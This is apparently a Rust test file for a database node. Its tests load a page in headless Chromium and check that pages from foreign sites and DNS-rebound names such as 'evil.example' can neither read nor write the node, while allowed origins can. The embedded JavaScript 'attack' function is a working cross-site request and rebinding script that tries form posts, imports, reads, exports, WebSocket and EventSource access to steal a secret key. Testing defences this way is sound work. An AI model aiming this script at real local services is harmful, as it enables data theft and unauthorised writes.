//! What pages in a real browser can do to a node: those of other sites and of rebound names nothing, its own and those that may
//! everything. Needs Chromium; where no `chromium` is to be found the tests say so and are skipped.

use std::{
    fs,
    io::{self, Read, Write},
    net::{SocketAddr, TcpListener, TcpStream},
    process::{Child, Command, Stdio},
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
        mpsc,
    },
    thread,
    time::Duration,
};

use serde_json::{Value, json};

use crate::harness::{Node, Setup, wait_until};

const BROWSERS: [&str; 3] = ["chromium", "chromium-browser", "google-chrome"];
/// A browser that starts on a busy machine takes a while.
const TIMEOUT: Duration = Duration::from_secs(90);

/// What every page tries, on the node at `base`. The seed of a value that is not to be read is in the key `secret`.
const SCRIPT: &str = r#"
const said = {};
const settle = (name, outcome) => { if (!(name in said)) said[name] = outcome; };
const tries = (name, promise) => promise.then(
  outcome => settle(name, outcome), error => settle(name, 'refused'));
async function attack(base, report) {
  const origin = base || location.origin;
  const post = (path, body, type) => fetch(origin + path, {
    method: 'POST', mode: 'no-cors', body, headers: type ? { 'Content-Type': type } : {} });
  const answer = async response => `${response.status} ${await response.text()}`;
  const socket = new Promise((done, refused) => {
    const ws = new WebSocket(origin.replace('http', 'ws') + '/_/ws');
    ws.onopen = () => ws.send(JSON.stringify({ op: 'get', rid: 1, table: 't', key: 'secret' }));
    ws.onmessage = message => done(message.data);
    ws.onerror = refused; ws.onclose = refused;
  });
  const events = new Promise((done, refused) => {
    const source = new EventSource(origin + '/t/subscribe/secret?snapshot=true');
    source.onmessage = message => { source.close(); done(message.data); };
    source.onerror = () => { source.close(); refused(); };
  });
  await Promise.all([
    tries('form', post('/t/batch', '[{"op":"put","key":"form","value":1}]', 'application/x-www-form-urlencoded')
      .then(response => response.type)),
    tries('blob', post('/_/import', new Blob(['{"table":"t","key":"blob","value":1}\n'])).then(response => response.type)),
    tries('put', fetch(origin + '/t/key/put', { method: 'PUT', body: JSON.stringify({ value: 1 }) }).then(answer)),
    tries('typed', fetch(origin + '/t/key/typed', {
      method: 'PUT', body: JSON.stringify({ value: 1 }), headers: { 'Content-Type': 'application/json' } }).then(answer)),
    tries('read', fetch(origin + '/t/key/secret').then(answer)),
    tries('export', fetch(origin + '/_/export').then(answer)),
    tries('socket', socket), tries('events', events),
  ]);
  await fetch(report + '/said', { method: 'POST', mode: 'no-cors', body: JSON.stringify(said) });
}
"#;

/// The machine of a site: it serves the page, until it is told to be the node's machine instead. To a browser that is what a name
/// is whose address was changed, or a proxy.
struct Site {
    address: SocketAddr,
    said: mpsc::Receiver<Value>,
}

impl Site {
    /// `base`: where the page looks for the node; empty for its own origin.
    fn start(node: SocketAddr, base: &str) -> Self {
        Self::start_at(TcpListener::bind("127.0.0.1:0").expect("a port"), node, base)
    }

    fn start_at(listener: TcpListener, node: SocketAddr, base: &str) -> Self {
        let address = listener.local_addr().expect("bound");
        let (tell, said) = mpsc::channel();
        let becomes_the_node = base.is_empty();
        // What the page reports to has to stay what it is.
        let reports = TcpListener::bind("127.0.0.1:0").expect("a port");
        let report = format!("http://{}", reports.local_addr().expect("bound"));
        let page = format!(
            "<!doctype html><title>page</title><script>{SCRIPT}\nattack('{base}', '{report}');</script>"
        );
        let rebound = Arc::new(AtomicBool::new(false));
        // Both end with the process of the tests: each waits for a connection then.
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (page, rebound) = (page.clone(), Arc::clone(&rebound));
                thread::spawn(move || serve(stream, &page, &rebound, node, becomes_the_node));
            }
        });
        thread::spawn(move || {
            for mut stream in reports.incoming().flatten() {
                // A connection that a browser opens in advance says nothing.
                let Ok(request) = read_request(&mut stream) else { continue };
                let body =
                    request.split_once("\r\n\r\n").map(|(_, body)| body.to_owned()).unwrap_or_default();
                let _ = stream.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
                if let Ok(value) = serde_json::from_str(&body) {
                    let _ = tell.send(value);
                }
            }
        });
        Self { address, said }
    }
}

/// Serves the page once, and is the node's machine from then on, where it is to become that.
fn serve(mut stream: TcpStream, page: &str, rebound: &AtomicBool, node: SocketAddr, becomes_the_node: bool) {
    let Ok(request) = read_request(&mut stream) else { return };
    let is_page = request.starts_with("GET /page ");
    if is_page || !becomes_the_node || !rebound.load(Ordering::SeqCst) {
        let length = page.len();
        let answer = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{page}"
        );
        rebound.fetch_or(is_page, Ordering::SeqCst);
        let _ = stream.write_all(answer.as_bytes());
        return;
    }
    let mut to_node = TcpStream::connect(node).expect("the node accepts connections");
    to_node.write_all(request.as_bytes()).expect("bytes can be sent");
    let (mut from_page, mut to_page) = (stream.try_clone().expect("a handle"), stream);
    let mut from_node = to_node.try_clone().expect("a handle");
    thread::spawn(move || {
        let _ = io::copy(&mut from_page, &mut to_node);
        let _ = to_node.shutdown(std::net::Shutdown::Both);
    });
    let _ = io::copy(&mut from_node, &mut to_page);
    let _ = to_page.shutdown(std::net::Shutdown::Both);
}

/// A head, and the body that it declares.
pub fn read_request(stream: &mut TcpStream) -> io::Result<String> {
    let mut bytes = Vec::new();
    let mut piece = [0; 4096];
    loop {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let head = head.to_ascii_lowercase();
            let length = head.lines().find_map(|line| line.strip_prefix("content-length: ")?.parse().ok());
            if body.len() >= length.unwrap_or(0) {
                return Ok(text);
            }
        }
        match stream.read(&mut piece)? {
            0 => return Err(io::ErrorKind::UnexpectedEof.into()),
            length => bytes.extend_from_slice(&piece[..length]),
        }
    }
}

/// A browser that shows one page. Dropping it ends it.
pub struct Browser {
    process: Child,
    profile: tempfile::TempDir,
}

impl Browser {
    /// `None`, with a word on stderr, where there is none.
    pub fn open(url: &str) -> Option<Self> {
        let profile = tempfile::Builder::new().prefix("dynarust-browser-").tempdir().expect("a directory");
        for name in BROWSERS {
            let mut command = Command::new(name);
            command
                .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"])
                .args(["--disable-background-networking", "--disable-component-update", "--disable-sync"])
                .args(["--disable-dev-shm-usage", "--remote-debugging-port=0"])
                // Every name is this machine; nothing leaves it.
                .arg("--host-resolver-rules=MAP * 127.0.0.1")
                .arg(format!("--user-data-dir={}", profile.path().display()))
                .arg(url)
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null());
            if let Ok(process) = command.spawn() {
                return Some(Self { process, profile });
            }
        }
        eprintln!("SKIPPED: no browser: none of {BROWSERS:?} is to be found (apt-get install chromium)");
        None
    }

    /// The port on which it is driven.
    pub fn devtools(&self, deadline: Duration) -> u16 {
        let file = self.profile.path().join("DevToolsActivePort");
        let mut port = None;
        wait_until("the browser is up", deadline, || {
            let text = fs::read_to_string(&file).unwrap_or_default();
            port = text.lines().next().and_then(|line| line.parse().ok());
            port.is_some()
        });
        port.expect("a port")
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        // It may have ended already.
        let _ = self.process.kill();
        let _ = self.process.wait();
    }
}

fn node_with_a_secret(setup: Setup) -> Node {
    let node = setup.start();
    node.put("/t/key/secret", r#"{"value":"42 is the answer"}"#).expect(200);
    node
}

/// What the page at `site`, under this name, says of what it tried; `None` without a browser.
fn visit(site: &Site, name: &str) -> Option<Value> {
    let _browser = Browser::open(&format!("http://{name}:{}/page", site.address.port()))?;
    Some(site.said.recv_timeout(TIMEOUT).expect("the page reports what it tried"))
}

const NOTHING: &str = r#"["secret"]"#;
const ALL: &str = r#"["blob","form","put","secret","typed"]"#;

#[track_caller]
fn expect_all_done(node: &Node, said: &Value) {
    for name in ["put", "typed"] {
        assert!(said[name].as_str().is_some_and(|text| text.starts_with("200 {\"version\"")), "{said}");
    }
    for name in ["read", "export", "socket", "events"] {
        assert!(said[name].as_str().is_some_and(|text| text.contains("42 is the answer")), "{name}: {said}");
    }
    node.get("/t/keys").expect_body(ALL);
}

/// A page of any site could write to a node on its reader's machine: with a form's type to a batch, without one to an import.
#[test]
fn a_page_of_another_site_neither_reads_nor_writes() {
    let node = node_with_a_secret(Setup::new());
    let site = Site::start(node.address(), &format!("http://{}", node.address()));
    let Some(said) = visit(&site, "evil.example") else { return };
    // What a page sends without asking is sent, and it never sees what came of it.
    let opaque = json!("opaque");
    assert_eq!((&said["form"], &said["blob"]), (&opaque, &opaque), "{said}");
    for name in ["put", "typed", "read", "export", "socket", "events"] {
        assert_eq!(said[name], "refused", "{name}: {said}");
    }
    node.get("/t/keys").expect_body(NOTHING);
}

/// A page whose name came to point to the node's machine after it was loaded read everything: to the browser the node was its own site.
#[test]
fn a_page_of_a_rebound_name_neither_reads_nor_writes() {
    let node = node_with_a_secret(Setup::new());
    let site = Site::start(node.address(), "");
    let Some(said) = visit(&site, "evil.example") else { return };
    for name in ["put", "typed", "read", "export"] {
        let text = said[name].as_str().unwrap_or_default();
        assert!(text.starts_with("421 ") && text.contains("--allowed-host evil.example"), "{name}: {said}");
    }
    for name in ["socket", "events"] {
        assert_eq!(said[name], "refused", "{name}: {said}");
    }
    assert!(!said.to_string().contains("42 is the answer"), "{said}");
    node.get("/t/keys").expect_body(NOTHING);
}

#[test]
fn a_page_of_the_nodes_own_reads_and_writes_and_so_does_one_under_an_allowed_name() {
    for (name, setup) in
        [("localhost", Setup::new()), ("db.example", Setup::new().flag("--allowed-host", "db.example"))]
    {
        let node = node_with_a_secret(setup);
        let site = Site::start(node.address(), "");
        let Some(said) = visit(&site, name) else { return };
        expect_all_done(&node, &said);
    }
}

#[test]
fn a_page_of_an_origin_that_is_named_reads_and_writes() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let origin = format!("http://app.example:{}", listener.local_addr().expect("bound").port());
    let node = node_with_a_secret(Setup::new().flag("--cors-origin", origin));
    let site = Site::start_at(listener, node.address(), &format!("http://{}", node.address()));
    let Some(said) = visit(&site, "app.example") else { return };
    expect_all_done(&node, &said);
}
